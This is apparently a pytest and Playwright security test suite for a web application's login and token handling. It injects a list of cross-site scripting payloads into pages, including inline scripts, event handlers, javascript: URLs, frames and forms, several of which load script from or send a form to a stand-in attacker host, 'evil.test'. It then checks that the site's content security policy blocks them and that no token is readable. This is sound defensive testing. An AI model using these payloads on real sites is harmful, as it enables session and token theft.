"""Token theft by injected script: the attack first, then where a token could be found.

Markup is injected into the pages as the server sends them, with its own headers on them, and
script as if one of the site's own files had been changed.
"""

from typing import Any, Final
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import BrowserContext, Page, Response, Route

from tests.support.browsing import (
    Person,
    ask_the_api,
    log_in,
    open_section,
    press_refresh,
    refresh_cookie,
    script,
)
from tests.support.servers.gunicorn import GunicornServer

EVIL: Final = "http://evil.test"

# Each says its name in `fired` when it runs, or asks the evil host for it.
VECTORS: Final = {
    "inline": "<script>fired.push('inline')</script>",
    "inline-module": "<script type=module>fired.push('inline-module')</script>",
    "remote": f"<script src={EVIL}/remote></script>",
    "data-script": "<script src=\"data:,fired.push('data-script')\"></script>",
    "onerror": "<img src=x: onerror=\"fired.push('onerror')\">",
    "onload": "<svg onload=\"fired.push('onload')\"></svg>",
    "onfocus": "<input autofocus onfocus=\"fired.push('onfocus')\">",
    "ontoggle": "<details open ontoggle=\"fired.push('ontoggle')\">x</details>",
    "onanimation": "<b class=arriving onanimationend=\"fired.push('onanimation')\">x</b>",
    "srcdoc": "<iframe srcdoc=\"<script>parent.fired.push('srcdoc')</script>\"></iframe>",
    "frame-url": "<iframe src=\"javascript:parent.fired.push('frame-url')\"></iframe>",
    "javascript-link": "<a id=lure href=\"javascript:fired.push('javascript-link')\">x</a>",
    "base": f"<base href={EVIL}/><script src=base></script>",
    "frame": f"<iframe src={EVIL}/frame></iframe>",
    "object": f"<object data={EVIL}/object></object>",
    "embed": f"<embed src={EVIL}/embed>",
    "style": f"<link rel=stylesheet href={EVIL}/style>",
    "inline-style": f"<style>body {{ background: url({EVIL}/inline-style) }}</style>",
    "image": f"<img src={EVIL}/image>",
    "form": f"<form action={EVIL}/form><button id=send>x</button></form>",
}
SINKS: Final = script("sinks")
LOOT: Final = script("loot")
SPY: Final = script("spy")

PATCH_KEYS: Final = script("patch_keys")


def inject(page: Page, path: str, markup: str, *, policy: bool = True) -> None:
    """Have the server's answer for a path contain foreign markup, with its headers or without."""

    def change(route: Route) -> None:
        answer = route.fetch()
        dropped = () if policy else ("content-security-policy",)
        headers = {name: text for name, text in answer.headers.items() if name not in dropped}
        body = answer.text()
        at = body.find("</main>") if "</main>" in body else len(body)
        route.fulfill(response=answer, headers=headers, body=body[:at] + markup + body[at:])

    page.route(lambda url: urlsplit(url).path == path, change)


def evil_host(context: BrowserContext) -> list[str]:
    """Stand in for the attacker's host; gives the list of what is asked of it."""
    asked: list[str] = []

    def answer(route: Route) -> None:
        name = route.request.url.rpartition("/")[2].rstrip("?")
        asked.append(name)
        route.fulfill(content_type="text/javascript", body=f"window.fired?.push('{name}')")

    context.route(f"{EVIL}/**", answer)
    context.add_init_script("window.fired = []")
    return asked


def tokens_of(page: Page) -> list[str]:
    """Return a list that grows with the access tokens the tab receives."""
    tokens: list[str] = []

    def note(answer: Response) -> None:
        if answer.url.endswith(("/auth/login", "/auth/refresh")) and answer.ok:
            tokens.append(answer.json()["access_token"])

    page.on("response", note)
    return tokens


def use_everything(page: Page) -> None:
    press_refresh(page)
    ask_the_api(page)
    for name in ("Sessions", "Password", "Overview"):
        open_section(page, name)


def lure(page: Page) -> None:
    for bait in ("#lure", "#send"):
        page.locator(bait).dispatch_event("click")
    page.wait_for_timeout(200)  # for what should not happen there is nothing to wait for


@pytest.mark.parametrize("path", ["/threats", "/account", "/fragments/account"])
def test_injected_markup_is_dead(page: Page, ada: Person, path: str) -> None:
    asked = evil_host(page.context)
    log_in(page, ada)
    inject(page, path, "".join(VECTORS.values()))
    page.goto("/threats" if path == "/threats" else "/account")
    page.locator("#lure").wait_for()
    lure(page)
    assert page.evaluate("fired") == []
    assert asked == []


def test_control_the_same_markup_runs_without_the_policy(page: Page) -> None:
    """Without our policy the injected markup does run: it is the policy that stops it."""
    asked = evil_host(page.context)
    inject(page, "/threats", "".join(VECTORS.values()), policy=False)
    page.goto("/threats")
    page.locator("#lure").dispatch_event("click")
    page.wait_for_function("fired.length > 9")
    fired = {*page.evaluate("fired"), *asked}
    page.locator("#send").dispatch_event("click")
    page.wait_for_url(f"{EVIL}/form*")
    alive = fired | {"form"}
    assert len(alive & VECTORS.keys()) >= 15, VECTORS.keys() - alive


def test_sinks_of_markup_and_code_throw(page: Page) -> None:
    def poison(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text() + SINKS)

    page.route("**/static/*/js/credentials.js", poison)
    page.goto("/login")
    page.locator("body[data-tried=all]").wait_for()
    assert page.evaluate("open_sinks") == []
    assert page.evaluate("window.late") is None


def test_no_token_where_script_can_read(page: Page, context: BrowserContext, ada: Person) -> None:
    tokens = tokens_of(page)
    log_in(page, ada)
    use_everything(page)
    cookie = refresh_cookie(context)
    assert cookie
    page.evaluate("window.planted = { deep: [{ down: 'planted treasure' }] }")
    loot = page.evaluate(LOOT)
    assert "planted treasure" in loot  # the search finds what is there
    assert ada.email in loot
    assert len(tokens) == 2
    for token in (*tokens, str(cookie.get("value"))):
        for part in token.split(".")[1:]:
            assert part not in loot
    assert ada.password not in loot


def test_nothing_is_stored_but_the_key(page: Page, ada: Person) -> None:
    log_in(page, ada, remember=True)
    use_everything(page)
    stored: list[Any] = page.evaluate(
        """async () => [localStorage.length, sessionStorage.length, document.cookie,
          (await indexedDB.databases()).map(({ name }) => name).join(),
          (await caches.keys()).length,
          (await navigator.serviceWorker.getRegistrations()).length, history.state, name]"""
    )
    assert stored == [0, 0, "", "latchkey", 0, 0, None, ""]


def test_later_patching_reveals_no_token(page: Page, ada: Person) -> None:
    """Script that replaces the platform's methods after the module has loaded sees no token."""
    log_in(page, ada)
    page.evaluate(SPY)
    use_everything(page)
    assert page.evaluate("leaks") == []


def test_patching_the_modules_reveals_no_token(page: Page, ada: Person) -> None:
    log_in(page, ada)
    page.evaluate(PATCH_KEYS)
    use_everything(page)
    assert page.evaluate("handed") == []


def test_control_earlier_patching_does(page: Page, context: BrowserContext, ada: Person) -> None:
    """The same patches in place before the module loads do see it: they look well."""
    context.add_init_script(f"({SPY})()")
    log_in(page, ada)
    assert page.evaluate("leaks") != []


def test_policy_is_never_violated_in_normal_use(
    page: Page, context: BrowserContext, site: GunicornServer, ada: Person
) -> None:
    violations: list[str] = []
    context.expose_binding("violated", lambda _source, what: violations.append(what))
    context.add_init_script(
        "addEventListener('securitypolicyviolation',"
        " event => violated(event.violatedDirective + ' ' + event.blockedURI))"
    )
    for path in ("/", "/threats", "/mistakes", "/register", "/nowhere"):
        page.goto(site.url + path)
    log_in(page, ada)
    use_everything(page)
    assert violations == []
    page.evaluate("document.body.append(Object.assign(new Image(), { src: 'http://evil.test/' }))")
    page.wait_for_timeout(100)
    assert violations == ["img-src http://evil.test/"]
